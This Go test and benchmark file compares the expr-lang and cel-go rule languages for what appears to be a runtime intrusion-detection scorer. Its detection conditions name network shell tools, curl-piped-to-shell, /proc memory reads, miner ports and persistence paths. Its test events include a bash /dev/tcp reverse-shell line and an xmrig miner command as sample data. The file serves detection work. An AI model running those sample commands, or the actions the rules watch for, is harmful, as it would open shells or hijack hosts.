package rules

// The rule language was chosen by this benchmark: the same representative
// conditions written in expr-lang/expr and in cel-go, evaluated against the
// same events. Run:
//
//	go test -run TestLanguagesAgree -bench 'Language' -benchmem ./scorer/rules/
//
// TestLanguagesAgree makes sure both compute the same answers, so the figures
// compare equal work. expr-native is expr's parse tree compiled to Go
// closures by native.go (falling back to the VM for what it does not cover),
// which is how Set.Match evaluates rules.

import (
	"fmt"
	"sync"
	"testing"

	"github.com/expr-lang/expr"
	"github.com/expr-lang/expr/parser"
	"github.com/expr-lang/expr/vm"
	"github.com/google/cel-go/cel"
	"github.com/google/cel-go/interpreter"
)

// langCase is one condition in both languages.
type langCase struct {
	name, expr, cel string
}

var langCases = []langCase{
	{"in-list",
		`kind == "exec" and proc.exe_name in ["nmap", "masscan", "zmap", "hydra", "medusa", "sqlmap", "nikto", "john", "hashcat", "gobuster", "dirb", "wfuzz", "ffuf", "msfconsole", "chisel", "socat", "ncat", "nc", "tcpdump", "pspy"]`,
		`kind == "exec" && proc.exe_name in ["nmap", "masscan", "zmap", "hydra", "medusa", "sqlmap", "nikto", "john", "hashcat", "gobuster", "dirb", "wfuzz", "ffuf", "msfconsole", "chisel", "socat", "ncat", "nc", "tcpdump", "pspy"]`},
	{"string-ops",
		`kind == "exec" and container.id != "" and proc.exe_name in ["sh", "bash", "dash"] and (proc.cmdline contains "/dev/tcp/" or (proc.cmdline contains "curl " and proc.cmdline contains "| sh"))`,
		`kind == "exec" && container.id != "" && proc.exe_name in ["sh", "bash", "dash"] && (proc.cmdline.contains("/dev/tcp/") || (proc.cmdline.contains("curl ") && proc.cmdline.contains("| sh")))`},
	{"regex",
		`kind == "open" and path matches "^/proc/[0-9]+/mem$" and flags % 4 != 0`,
		`kind == "open" && path.matches("^/proc/[0-9]+/mem$") && flags % 4 != 0`},
	{"numeric",
		`kind == "connect" and net.family in [2, 10] and net.dst_port in [3333, 4444, 5555, 7777, 14444, 45700] and proc.exe_name not in ["nginx", "envoy"]`,
		`kind == "connect" && net.family in [2, 10] && net.dst_port in [3333, 4444, 5555, 7777, 14444, 45700] && !(proc.exe_name in ["nginx", "envoy"])`},
	{"prefix",
		`kind in ["open", "rename", "unlink"] and (path startsWith "/etc/cron" or path startsWith "/etc/systemd/system/" or path endsWith "/.ssh/authorized_keys" or path == "/etc/passwd")`,
		`kind in ["open", "rename", "unlink"] && (path.startsWith("/etc/cron") || path.startsWith("/etc/systemd/system/") || path.endsWith("/.ssh/authorized_keys") || path == "/etc/passwd")`},
	{"argv-any",
		`kind == "exec" and any(proc.argv, {# startsWith "stratum+tcp://" or # == "--donate-level"})`,
		`kind == "exec" && proc.argv.exists(a, a.startsWith("stratum+tcp://") || a == "--donate-level")`},
}

// langEnvs are events that exercise both true and false outcomes.
var langEnvs = []*Env{
	{Kind: "exec", Proc: Proc{ExeName: "bash", Cmdline: "bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", Argv: []string{"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"}}, Container: Container{ID: "c1"}},
	{Kind: "exec", Proc: Proc{ExeName: "nginx", Cmdline: "nginx -g daemon off;", Argv: []string{"nginx", "-g", "daemon off;"}}, Container: Container{ID: "c1"}},
	{Kind: "exec", Proc: Proc{ExeName: "xmrig", Cmdline: "xmrig -o stratum+tcp://127.0.0.1:3333", Argv: []string{"xmrig", "-o", "stratum+tcp://127.0.0.1:3333", "--donate-level", "1"}}, Container: Container{ID: "c1"}},
	{Kind: "exec", Proc: Proc{ExeName: "nmap", Cmdline: "nmap -sT 127.0.0.1", Argv: []string{"nmap", "-sT", "127.0.0.1"}}},
	{Kind: "open", Path: "/proc/1234/mem", Flags: 2, Proc: Proc{ExeName: "python3"}},
	{Kind: "open", Path: "/usr/lib/x86_64-linux-gnu/libc.so.6", Flags: 0, Proc: Proc{ExeName: "nginx"}},
	{Kind: "open", Path: "/etc/cron.d/job", Flags: 65, Proc: Proc{ExeName: "sh"}},
	{Kind: "connect", Net: Net{Family: 2, DstIP: "127.0.0.1", DstPort: 3333}, Proc: Proc{ExeName: "xmrig"}},
	{Kind: "connect", Net: Net{Family: 2, DstIP: "10.0.0.1", DstPort: 443}, Proc: Proc{ExeName: "curl"}},
	{Kind: "rename", Path: "/etc/passwd+", NewPath: "/etc/passwd", Proc: Proc{ExeName: "useradd"}},
}

func compileExpr(tb testing.TB, c langCase) *vm.Program {
	p, err := expr.Compile(c.expr, expr.Env(&Env{}), expr.AsBool())
	if err != nil {
		tb.Fatalf("expr %s: %v", c.name, err)
	}
	return p
}

// celActivation resolves CEL's qualified variable names straight from Env,
// the fastest way to feed cel-go a Go struct (no map per event).
type celActivation struct{ e *Env }

func (a *celActivation) ResolveName(name string) (any, bool) {
	e := a.e
	switch name {
	case "kind":
		return e.Kind, true
	case "path":
		return e.Path, true
	case "flags":
		return int64(e.Flags), true
	case "proc.exe_name":
		return e.Proc.ExeName, true
	case "proc.cmdline":
		return e.Proc.Cmdline, true
	case "proc.argv":
		return e.Proc.Argv, true
	case "container.id":
		return e.Container.ID, true
	case "net.family":
		return int64(e.Net.Family), true
	case "net.dst_port":
		return int64(e.Net.DstPort), true
	}
	return nil, false
}

func (a *celActivation) Parent() interpreter.Activation { return nil }

// celEnv declares the variables once; compiling reuses it, as a rule loader
// would.
var celEnv = sync.OnceValues(func() (*cel.Env, error) {
	return cel.NewEnv(
		cel.Variable("kind", cel.StringType), cel.Variable("path", cel.StringType),
		cel.Variable("flags", cel.IntType), cel.Variable("proc.exe_name", cel.StringType),
		cel.Variable("proc.cmdline", cel.StringType), cel.Variable("proc.argv", cel.ListType(cel.StringType)),
		cel.Variable("container.id", cel.StringType), cel.Variable("net.family", cel.IntType),
		cel.Variable("net.dst_port", cel.IntType),
	)
})

func compileCEL(tb testing.TB, c langCase) cel.Program {
	env, err := celEnv()
	if err != nil {
		tb.Fatal(err)
	}
	ast, iss := env.Compile(c.cel)
	if iss.Err() != nil {
		tb.Fatalf("cel %s: %v", c.name, iss.Err())
	}
	prg, err := env.Program(ast, cel.EvalOptions(cel.OptOptimize))
	if err != nil {
		tb.Fatal(err)
	}
	return prg
}

func TestLanguagesAgree(t *testing.T) {
	trues := 0
	for _, c := range langCases {
		ep, cp := compileExpr(t, c), compileCEL(t, c)
		var v vm.VM
		for i, e := range langEnvs {
			eo, err := v.Run(ep, e)
			if err != nil {
				t.Fatal(err)
			}
			co, _, err := cp.Eval(&celActivation{e})
			if err != nil {
				t.Fatalf("cel %s env %d: %v", c.name, i, err)
			}
			if eo.(bool) != co.Value().(bool) {
				t.Errorf("%s env %d: expr %v, cel %v", c.name, i, eo, co)
			}
			if eo.(bool) {
				trues++
			}
		}
	}
	if trues == 0 {
		t.Fatal("no condition matched any event; the comparison would be meaningless")
	}
}

func BenchmarkLanguage(b *testing.B) {
	for _, c := range langCases {
		b.Run(fmt.Sprintf("expr/%s", c.name), func(b *testing.B) {
			p := compileExpr(b, c)
			var v vm.VM
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				if _, err := v.Run(p, langEnvs[i%len(langEnvs)]); err != nil {
					b.Fatal(err)
				}
			}
		})
		b.Run(fmt.Sprintf("expr-native/%s", c.name), func(b *testing.B) {
			tree, err := parser.Parse(c.expr)
			if err != nil {
				b.Fatal(err)
			}
			fn, exact := native(tree.Node, noIntel{})
			p := compileExpr(b, c)
			var v vm.VM
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				e := langEnvs[i%len(langEnvs)]
				if fn(e) && !exact {
					if _, err := v.Run(p, e); err != nil {
						b.Fatal(err)
					}
				}
			}
		})
		b.Run(fmt.Sprintf("cel/%s", c.name), func(b *testing.B) {
			p := compileCEL(b, c)
			act := &celActivation{}
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				act.e = langEnvs[i%len(langEnvs)]
				if _, _, err := p.Eval(act); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkLanguageCompile is the cost of compiling the conditions (what a
// rule reload pays), per condition.
func BenchmarkLanguageCompile(b *testing.B) {
	b.Run("expr", func(b *testing.B) {
		for i := 0; b.Loop(); i++ {
			compileExpr(b, langCases[i%len(langCases)])
		}
	})
	b.Run("cel", func(b *testing.B) {
		for i := 0; b.Loop(); i++ {
			compileCEL(b, langCases[i%len(langCases)])
		}
	})
	b.Run("default-pack", func(b *testing.B) {
		srcs := DefaultSources()
		for b.Loop() {
			if _, err := Load(srcs, Options{}); err != nil {
				b.Fatal(err)
			}
		}
	})
}
